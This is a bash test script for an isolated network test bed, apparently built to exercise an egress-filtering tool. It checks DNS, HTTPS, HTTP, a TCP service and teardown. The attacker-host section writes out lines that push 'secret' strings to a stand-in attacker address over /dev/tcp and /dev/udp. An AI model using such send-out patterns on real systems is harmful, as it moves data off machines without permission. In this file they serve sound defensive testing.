#!/bin/bash
# 00-testbed.sh: the test bed itself, without sluiced: every service answers
# a plain client, the attacker records what reaches it, tb_down leaves nothing.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "$(dirname "$0")/../lib/testbed.sh"

tb_init 00-testbed
tb_internet_up || { tb_fail "internet up"; tb_done; }
tb_pass "internet up"
tb_inet_client cli || { tb_fail "client namespace"; tb_done; }
CLI=198.51.100.66

# DNS: exact answers, wildcard under evil.test only, NXDOMAIN otherwise.
dns() {	# dns NAME -> "STATUS ADDR..."
	local out st
	out=$(tb_in cli dig +time=2 +tries=1 @"$TB_ADDR_DNS" "$1" A 2>&1)
	st=$(printf '%s\n' "$out" | sed -n 's/.*status: \([A-Z]*\),.*/\1/p')
	printf '%s %s' "$st" "$(printf '%s\n' "$out" |
	    awk '$4 == "A" { print $5 }' | tr '\n' ' ')"
}
tb_assert_eq "$(dns a.test)" "NOERROR 192.0.2.10 " "dns a.test"
tb_assert_eq "$(dns b.test)" "NOERROR 192.0.2.10 " "dns b.test"
tb_assert_eq "$(dns plain.test)" "NOERROR 192.0.2.20 " "dns plain.test"
tb_assert_eq "$(dns db.test)" "NOERROR 198.51.100.7 " "dns db.test"
tb_assert_eq "$(dns evil.test)" "NOERROR 203.0.113.66 " "dns evil.test"
tb_assert_eq "$(dns x.y.evil.test)" "NOERROR 203.0.113.66 " "dns x.y.evil.test"
tb_assert_eq "$(dns x.a.test)" "NXDOMAIN " "dns x.a.test is NXDOMAIN"
tb_assert_eq "$(dns example.com)" "NXDOMAIN " "dns example.com is NXDOMAIN (no forwarding)"
tb_check "dns.log records the query and its source" \
    grep -q "query\[A\] example.com from $CLI" "$TB_DIR/dns.log"

# HTTPS by SNI on one address, verified against the test CA.
https() {	# https NAME [CURL ARGS...]
	local n=$1
	shift
	tb_in cli curl -sS --max-time 5 --cacert "$TB_CA" \
	    --resolve "$n:443:$TB_ADDR_HTTPS" "$@" "https://$n/" 2>&1
}
tb_assert_eq "$(https a.test)" "hello from a.test" "https a.test"
tb_assert_eq "$(https b.test)" "hello from b.test" "https b.test"
tb_assert_match "$(tb_in cli curl -sS --max-time 5 --resolve a.test:443:$TB_ADDR_HTTPS \
    https://a.test/ 2>&1)" "certificate" "https without the test CA fails verification"
tb_assert_match "$(https c.test)" "certificate|subject name" \
    "an unknown SNI gets a certificate that does not verify"
tb_check "access log records SNI and Host" grep -q \
    "^$CLI $TB_ADDR_HTTPS:443 sni=b.test host=b.test " "$TB_DIR/nginx.access.log"

# Plain HTTP.
tb_assert_eq "$(tb_in cli curl -sS --max-time 5 \
    --resolve plain.test:80:$TB_ADDR_PLAIN http://plain.test/ 2>&1)" \
    "hello from plain.test" "http plain.test"
tb_assert_eq "$(tb_in cli curl -sS --max-time 5 -H 'Host: a.test' \
    http://$TB_ADDR_HTTPS/ 2>&1)" "hello from a.test on port 80" "http 192.0.2.10:80"
tb_check "access log records the Host" grep -q \
    "^$CLI $TB_ADDR_PLAIN:80 sni=- host=plain.test " "$TB_DIR/nginx.access.log"

# The TCP service.
tb_assert_eq "$(tb_in cli nc -w 3 "$TB_ADDR_DB" "$TB_PORT_DB" </dev/null 2>&1)" \
    "db" "db service on 5432"

# The attacker: a TCP connection on an arbitrary port, answered.
reply=$(tb_in cli bash -c '
	exec 3<>/dev/tcp/203.0.113.66/4444 || exit 1
	printf "secret-tcp-31337" >&3
	read -r -t 3 line <&3
	echo "$line"
	exec 3>&-' 2>&1)
tb_assert_eq "$reply" "attacker" "attacker answers TCP on port 4444"
n=$(tb_wait_count 1 5 tb_attacker_conn_count port=4444 peer=$CLI bytes=16)
tb_assert_eq "$n" 1 "attacker recorded the connection with its port and size"
tb_check "attacker recorded the TCP bytes" \
    eval 'tb_attacker_received | grep -q secret-tcp-31337'
tb_assert_eq "$(tb_attacker_packet_count proto=tcp src=$CLI dport=4444 flags=S)" 1 \
    "attacker saw one SYN to 4444"
tb_assert_eq "$(tb_attacker_packet_count proto=tcp src=$CLI dport=4444 len=16)" 1 \
    "attacker saw one 16-byte segment to 4444"

# UDP to an arbitrary port, and ping.
tb_in cli bash -c 'printf "secret-udp-4242" > /dev/udp/203.0.113.66/5353'
n=$(tb_wait_count 1 5 tb_attacker_udp_count port=5353 src=$CLI bytes=15)
tb_assert_eq "$n" 1 "attacker recorded the UDP datagram to 5353"
tb_check "attacker recorded the UDP bytes" \
    eval 'tb_attacker_received | grep -q secret-udp-4242'
tb_check "ping 203.0.113.66" \
    eval 'tb_in cli ping -c 1 -W 2 -q "$TB_ADDR_ATK" >/dev/null'
n=$(tb_wait_count 1 5 tb_attacker_packet_count proto=icmp src=$CLI icmp_type=8)
tb_assert_eq "$n" 1 "attacker saw the echo request"
tb_assert_eq "$(tb_attacker_packet_count proto=arp)" 0 "no ARP in the records"

# A refused connection fails fast; tb_time_ms measures it.
t0=$(tb_time_ms)
tb_in cli nc -z -w 3 "$TB_ADDR_PLAIN" 81 2>/dev/null
rc=$?
t1=$(tb_time_ms)
tb_assert_eq "$rc" 1 "closed port refused"
tb_assert_le "$((t1 - t0))" 1000 "refusal within a second"

# tb_down leaves nothing: no namespace, no process, no directory.
procs=$(awk '{ print $1 }' "$TB_DIR/pids")
for ns in $(ip netns list | awk -v p="${P}-" 'index($1, p) == 1 { print $1 }'); do
	procs="$procs $(ip netns pids "$ns")"
done
nprocs=$(echo $procs | wc -w)
tb_check "the bed's processes are known ($nprocs)" test "$nprocs" -ge 4
dir=$TB_DIR
tb_down
tb_assert_eq "$(ip netns list | grep -c "^${P}-")" 0 "no namespace left"
alive=""
for p in $procs; do
	kill -0 "$p" 2>/dev/null && alive="$alive $p"
done
tb_assert_eq "$alive" "" "no process left"
tb_check "TB_DIR removed" test ! -e "$dir"
tb_check "no /etc/netns entry left" \
    eval '! ls -d /etc/netns/"${P}"-* >/dev/null 2>&1'
tb_done
